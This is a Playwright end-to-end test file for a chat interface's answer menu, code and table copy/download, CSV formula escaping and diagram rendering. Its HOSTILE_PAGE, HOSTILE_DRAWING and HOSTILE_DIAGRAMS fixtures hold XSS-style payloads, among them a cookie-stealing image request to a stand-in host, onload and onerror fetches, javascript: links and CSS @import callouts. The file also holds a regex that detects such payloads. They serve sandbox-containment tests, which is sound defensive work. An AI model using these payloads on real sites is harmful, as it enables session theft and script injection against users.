"""What people do with answers: copy them, and what else their menu offers."""

from __future__ import annotations

import asyncio
import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import unquote

import pytest
from playwright.async_api import Browser, BrowserContext, Locator, Page, expect

from tests.doubles.upstream import Behaviour, Upstream
from tests.e2e.chatting import answers, ask_and_wait, questions
from tests.e2e.conftest import PHONE, OpenBrowser
from tests.e2e.site import Site

pytestmark = [pytest.mark.e2e, pytest.mark.asyncio(loop_scope="session")]


@pytest.fixture(autouse=True)
def _as_before(models: Upstream) -> Iterator[None]:
    yield
    models.behaviour = Behaviour()


async def answered(page: Page, models: Upstream, text: str) -> Locator:
    """Ask something that is answered with that text; return the answer."""
    models.behaviour = Behaviour(answer=text)
    await ask_and_wait(page, "Tell me")
    return answers(page).last


async def copied(page: Page) -> str:
    return str(await page.evaluate("navigator.clipboard.readText()"))


def more(message: Locator) -> Locator:
    return message.get_by_role("button", name="More", exact=True)


def menu(page: Page) -> Locator:
    return page.locator("#message-menu")


async def test_an_answer_is_copied_as_it_was_written_and_without_its_marks(
    page: Page, alice: BrowserContext, models: Upstream
) -> None:
    await alice.grant_permissions(["clipboard-read", "clipboard-write"])
    answer = await answered(page, models, "A **bold** `word`:\n\n* one\n* $x^2$\n")

    await answer.get_by_role("button", name="Copy", exact=True).click()
    assert await copied(page) == "A **bold** `word`:\n\n* one\n* $x^2$\n"

    await more(answer).click()
    await menu(page).get_by_role("button", name="Copy as plain text").click()
    await expect(page.get_by_text("Copied.")).to_be_visible()
    assert await copied(page) == "A bold word:\n\n- one\n- x^2"


async def saved(page: Page, button: Locator) -> tuple[str, bytes]:
    """Press a button that saves a file; return its name and its bytes."""
    async with page.expect_download() as downloading:
        await button.click()
    download = await downloading.value
    return download.suggested_filename, Path(await download.path()).read_bytes()


async def test_code_is_copied_and_saved_byte_for_byte(page: Page, alice: BrowserContext, models: Upstream) -> None:
    await alice.grant_permissions(["clipboard-read", "clipboard-write"])
    code = "\ndef f():\n\treturn '<b>&amp;</b> 中 😀'  # two spaces  \n\n"
    answer = await answered(page, models, f"```python\n{code}```\n")
    block = answer.locator("figure.code")

    await block.get_by_role("button", name="Copy").click()
    await expect(block.get_by_role("button", name="Copied")).to_be_visible()
    assert await copied(page) == code

    assert await saved(page, block.get_by_role("button", name="Download")) == ("code.py", code.encode())


async def test_a_table_is_copied_and_saved_for_spreadsheets_which_run_nothing_of_it(
    page: Page, alice: BrowserContext, models: Upstream
) -> None:
    await alice.grant_permissions(["clipboard-read", "clipboard-write"])
    rows = ['| a "b" | c, d | $x^2$ |', "|---|--:|---|", "| =1+1 | -5 % | **x** |", "| @SUM(A1) | -1+2 | `;` |"]
    answer = await answered(page, models, "\n".join(rows) + "\n")

    name, content = await saved(page, answer.get_by_role("button", name="Download as CSV"))
    assert name == "table.csv"
    expected = '"a ""b""","c, d",x^2\r\n"\'=1+1",-5 %,x\r\n"\'@SUM(A1)","\'-1+2",";"\r\n'
    assert content == b"\xef\xbb\xbf" + expected.encode()

    await answer.locator(".table-block").get_by_role("button", name="Copy").click()
    await expect(answer.get_by_role("button", name="Copied")).to_be_visible()
    assert await copied(page) == "a \"b\"\tc, d\tx^2\n'=1+1\t-5 %\tx\n'@SUM(A1)\t'-1+2\t;"


async def test_a_hostile_page_is_shown_and_reaches_nothing(
    browser: Browser, site: Site, alice_state: Path, models: Upstream
) -> None:
    reached: list[bytes] = []

    async def note(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        reached.append(await reader.read(100))
        writer.close()

    listener = await asyncio.start_server(note, "127.0.0.1", 0)
    evil = f"http://127.0.0.1:{listener.sockets[0].getsockname()[1]}"
    # Not one of the watched browsers: what the policy refuses is told on the console.
    context = await browser.new_context(base_url=site.url, storage_state=alice_state)
    page = await context.new_page()
    answered_urls: list[str] = []
    page.on("response", lambda response: answered_urls.append(response.url))
    await page.goto("/")
    source = HOSTILE_PAGE.replace("EVIL", evil)
    answer = await answered(
        page, models, f"```html\n{source}\n```\n\n```svg\n{HOSTILE_DRAWING.replace('EVIL', evil)}\n```\n"
    )
    await expect(answer.locator("pre").first).to_contain_text("Hello from the page")
    await expect(answer.locator("iframe")).to_have_count(0)

    for number in range(2):
        await answer.get_by_role("button", name="Show", exact=True).first.click()
        await expect(answer.locator("iframe")).to_have_count(number + 1)
    frame = answer.frame_locator("iframe").nth(0)
    await expect(frame.get_by_text("Hello from the page")).to_be_visible()
    await expect(answer.frame_locator("iframe").nth(1).get_by_text("Hello from the drawing")).to_be_visible()
    for link in await frame.locator("a, button, input[type=submit]").all():
        await link.click(force=True)
    for link in await answer.frame_locator("iframe").nth(1).locator("a").all():
        await link.dispatch_event("click")

    # Nothing has run, gone elsewhere or opened, and a request of our own is the first to arrive.
    await expect(frame.get_by_text("Hello from the page")).to_be_visible()
    assert await page.title() != "taken"
    assert len(context.pages) == 1
    _, writer = await asyncio.open_connection(*listener.sockets[0].getsockname())
    writer.write(b"ours")
    await writer.drain()
    writer.close()
    async with asyncio.timeout(10):
        while not reached:
            await asyncio.sleep(0.01)
    assert reached == [b"ours"]
    assert not any(url.startswith(evil) for url in answered_urls)

    await answer.get_by_role("button", name="Source", exact=True).first.click()
    await expect(answer.locator("pre").first).to_be_visible()
    await expect(answer.locator("iframe")).to_have_count(1)
    listener.close()
    await context.close()


HOSTILE_PAGE = """<!doctype html><html><head>
<link rel=preconnect href=EVIL/a><link rel=dns-prefetch href=EVIL/b><link rel=prefetch href=EVIL/c>
<link rel=preload as=image href=EVIL/d><link rel=stylesheet href=EVIL/e><link rel=icon href=EVIL/f>
<meta http-equiv=refresh content="0;url=EVIL/g"><base href=EVIL/h>
<style>@import url(EVIL/i); body { background: url(EVIL/j) }
@font-face { font-family: x; src: url(EVIL/k) } p { font-family: x }</style>
<script>top.document.title = "taken"; new Image().src = "EVIL/l?" + document.cookie; location = "EVIL/m"</script>
</head><body onload="fetch('EVIL/n')"><p>Hello from the page</p>
<img src=EVIL/o srcset="EVIL/p 2x" onerror="fetch('EVIL/q')"><video src=EVIL/r autoplay poster=EVIL/s></video>
<iframe src=EVIL/t></iframe><iframe srcdoc="<img src=EVIL/u>"></iframe><object data=EVIL/v></object><embed src=EVIL/w>
<a href=EVIL/x ping=EVIL/y>one</a> <a href=EVIL/z target=_top>two</a> <a href=EVIL/1 target=_blank>three</a>
<a href=EVIL/2 download>four</a> <a href="javascript:top.document.title='taken'">five</a>
<form action=EVIL/3 method=post><input type=submit value=send><button formaction=EVIL/4>go</button></form>
</body></html>"""
HOSTILE_DRAWING = """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 40" onload="fetch('EVIL/5')">
<style>@import url(EVIL/6); text { fill: url(EVIL/7#a); mask: url(EVIL/8#m) }</style>
<image href="EVIL/9" width="1" height="1"/><use href="EVIL/10#a"/><script>fetch("EVIL/11")</script>
<a href="EVIL/12"><animate attributeName="href" to="EVIL/13" begin="0s"/><text y="20">Hello from the drawing</text></a>
<foreignObject width="9" height="9"><iframe src="EVIL/14"></iframe></foreignObject></svg>"""


DIAGRAMS = """```mermaid
flowchart LR
  A[开始] --> B[检查输入]
```

```mermaid
flowchart LR
  A --> B
  B -->
```
"""
HOSTILE_DIAGRAMS = [
    f"```mermaid\n{source}\n```"
    for source in (
        'flowchart LR\n  A[x] --> B\n  click A "javascript:top.document.title=1"\n  click B call alert()',
        'flowchart LR\n  A[x] --> B\n  click A href "EVIL/a" _top\n  style B fill:url(EVIL/b#g)',
        '%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}, "htmlLabels": true}}%%\n'
        "flowchart LR\n  A[\"<img src=EVIL/c onerror=fetch('EVIL/d')>\"] --> B",
        '%%{init: {"themeCSS": "g{background:url(EVIL/e)} @import url(EVIL/f); "}}%%\nflowchart LR\n  A --> B',
        '%%{init: {"fontFamily": "x;} @import url(EVIL/h); a{", "themeVariables": {"lineColor": "url(EVIL/i)"}}}%%\n'
        "flowchart LR\n  A --> B",
        "sequenceDiagram\n  A->>B: <script src=EVIL/j></script><img src=EVIL/k><link rel=preconnect href=EVIL/l>",
        'flowchart LR\n  A@{ img: "EVIL/m", label: "x", h: 60 } --> B@{ icon: "evil:x" }',
        "---\ntitle: <img src=EVIL/n onerror=alert(1)>\nconfig:\n  securityLevel: loose\n---\nflowchart LR\n  A --> B",
        "mindmap\n  root((<img src=EVIL/o><link rel=preload href=EVIL/p>))\n  b[<style>@import 'EVIL/q'</style>]",
        'classDiagram\n  class A\n  link A "EVIL/r" "tip"\n  callback A "alert" "tip"',
        "gantt\n  dateFormat YYYY-MM-DD\n  tickInterval 1millisecond\n  a :0001-01-01, 999999d",
        "flowchart LR\n" + "\n".join(f"  n{number} --> n{number * 7 % 390}" for number in range(399)),
        "flowchart LR\n" + "\n".join(f"  n{number} --> n{number + 1}" for number in range(900)),
        "flowchart LR\n" + "  subgraph s\n" * 300,
    )
]


async def test_a_hostile_diagram_is_drawn_when_its_reader_asks_and_reaches_nothing(
    browser: Browser, site: Site, alice_state: Path, models: Upstream
) -> None:
    reached: list[bytes] = []

    async def note(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        reached.append(await reader.read(100))
        writer.close()

    listener = await asyncio.start_server(note, "127.0.0.1", 0)
    evil = f"http://127.0.0.1:{listener.sockets[0].getsockname()[1]}"
    # Not one of the watched browsers: what the policy of the frame refuses is told on the console.
    context = await browser.new_context(base_url=site.url, storage_state=alice_state)
    page = await context.new_page()
    await page.goto("/")
    answer = await answered(page, models, "\n\n".join(HOSTILE_DIAGRAMS).replace("EVIL", evil))
    for number in range(len(HOSTILE_DIAGRAMS)):
        figure = answer.locator("figure.code").nth(number)
        await figure.get_by_role("button", name="Show diagram").click()
        await expect(figure.locator(".code__diagram, .code__problem")).to_be_visible(timeout=40_000)
        if await figure.locator(".code__diagram").count():
            picture = await figure.locator("img").get_attribute("src")
            assert evil.removeprefix("http://") not in unquote(picture or "").partition("<text")[0]
            assert not RUNS.search(unquote(picture or ""))
    assert await answer.locator(".code__diagram").count() >= 5

    await expect(page.locator("iframe")).to_have_count(0)
    assert await page.title() != "taken"
    assert len(context.pages) == 1
    _, writer = await asyncio.open_connection(*listener.sockets[0].getsockname())
    writer.write(b"ours")
    await writer.drain()
    writer.close()
    async with asyncio.timeout(10):
        while not reached:
            await asyncio.sleep(0.01)
    assert reached == [b"ours"]
    listener.close()
    await context.close()


RUNS = re.compile(r"<script|<image|<img|<iframe|<a |[\s\"]on\w+=\"|href=\"[^#]|url\((?!#)|@import", re.I)


async def test_a_diagram_is_drawn_as_a_picture_and_a_wrong_one_says_where(page: Page, models: Upstream) -> None:
    answer = await answered(page, models, DIAGRAMS)
    good, wrong = (answer.locator("figure.code").nth(number) for number in range(2))
    await expect(good.locator("pre")).to_be_visible()
    await expect(good.locator("img")).to_have_count(0)

    await good.get_by_role("button", name="Show diagram").click()
    await expect(good.locator("img")).to_be_visible(timeout=40_000)
    await expect(good.locator("pre")).to_be_hidden()
    assert (
        await good.locator("img").evaluate("async image => { await image.decode(); return image.naturalWidth }") > 100
    )
    await good.get_by_role("button", name="Show the diagram large").click()
    await expect(page.get_by_role("dialog", name="Picture")).to_be_visible()
    await page.keyboard.press("Escape")
    await good.get_by_role("button", name="Source").click()
    await expect(good.locator("pre")).to_be_visible()
    await expect(good.locator("img")).to_have_count(0)

    await wrong.get_by_role("button", name="Show diagram").click()
    await expect(wrong.get_by_role("alert")).to_contain_text("there is a mistake in line 3", timeout=40_000)
    await expect(wrong.locator("pre")).to_be_visible()


async def test_a_long_question_is_folded_and_found_whole(page: Page, models: Upstream) -> None:
    lines = "\n".join(f"line {number}" for number in range(60))
    models.behaviour = Behaviour(answer="Read.")
    await ask_and_wait(page, f"{lines}\nthe needle")
    question = questions(page).last
    bubble = question.locator(".message__bubble")
    unfold = question.get_by_role("button", name="Show all")

    assert await height_of(bubble) < 420
    await unfold.focus()
    await page.keyboard.press("Enter")
    await expect(question.get_by_role("button", name="Show less")).to_have_attribute("aria-expanded", "true")
    assert await height_of(bubble) > 1000
    await page.keyboard.press("Enter")
    assert await height_of(bubble) < 420
    await expect(unfold).to_be_focused()
    await expect(unfold).to_be_in_viewport()

    # Selecting takes all of it, and where the browser's own search scrolls to in it, that is shown.
    assert (await bubble.evaluate("e => { getSelection().selectAllChildren(e); return getSelection() + '' }")).endswith(
        "line 59\nthe needle"
    )
    await bubble.evaluate("e => { e.scrollTop = e.scrollHeight }")
    await expect(question.get_by_role("button", name="Show less")).to_be_in_viewport()


async def height_of(element: Locator) -> float:
    box = await element.bounding_box()
    assert box is not None
    return box["height"]


async def test_the_menu_is_worked_with_the_keyboard_and_belongs_to_one_answer_at_a_time(
    page: Page, models: Upstream
) -> None:
    first = await answered(page, models, "One.")
    first = answers(page).nth(0)
    second = await answered(page, models, "Two.")

    await more(first).focus()
    await page.keyboard.press("Enter")
    await expect(menu(page)).to_be_visible()
    await expect(menu(page).get_by_role("button").first).to_be_focused()
    await page.keyboard.press("Escape")
    await expect(menu(page)).to_be_hidden()
    await expect(more(first)).to_be_focused()

    await more(first).click()
    # The open menu lies over it.
    await more(second).focus()
    await page.keyboard.press("Enter")
    await expect(menu(page)).to_be_visible()
    await expect(more(first)).to_have_attribute("aria-expanded", "false")
    await expect(more(second)).to_have_attribute("aria-expanded", "true")
    await page.keyboard.press("Escape")
    await expect(menu(page)).to_be_hidden()


async def test_what_is_known_of_an_answer_opens_beside_it(page: Page, models: Upstream) -> None:
    answer = await answered(page, models, "One.")
    panel = page.locator("chat-panel")
    model = await page.get_by_role("button", name="Model", exact=True).inner_text()

    await more(answer).click()
    await menu(page).get_by_role("button", name="About this answer").click()

    await expect(panel.get_by_text("About this answer")).to_be_visible()
    await expect(panel).to_contain_text(model)
    await expect(panel).to_contain_text("All together")
    await page.keyboard.press("Escape")
    await expect(panel).to_be_hidden()
    await expect(more(answer)).to_be_focused()


async def test_on_a_phone_the_menu_stays_inside_the_window(
    open_browser: OpenBrowser, alice_state: object, models: Upstream
) -> None:
    browser = await open_browser(size=PHONE, storage_state=alice_state)
    page = await browser.new_page()
    await page.goto("/")
    answer = await answered(page, models, "Short.")
    await more(answer).tap()

    box = await menu(page).bounding_box()
    assert box is not None
    assert box["x"] >= 0
    assert box["x"] + box["width"] <= PHONE[0]
    heights = [await item.bounding_box() for item in await menu(page).get_by_role("button").all()]
    assert all(item is not None and item["height"] >= 44 for item in heights)


async def test_words_are_not_joined_to_those_before_that_were_rendered_meanwhile(page: Page) -> None:
    shown = await page.evaluate(
        """async () => {
          const { appendText, endIn } = await import("/static/js/lib/tail.js");
          const tail = document.createElement("div");
          const rendered = (words, space) => {
            const paragraph = document.createElement("p");
            paragraph.textContent = words;
            tail.replaceChildren(paragraph);
            endIn(tail, space);
          };
          rendered("The light", " ");
          appendText(tail, "house");
          const apart = tail.textContent;
          rendered("The light", "");
          appendText(tail, "house");
          return [apart, tail.textContent];
        }"""
    )

    assert shown == ["The light house", "The lighthouse"]
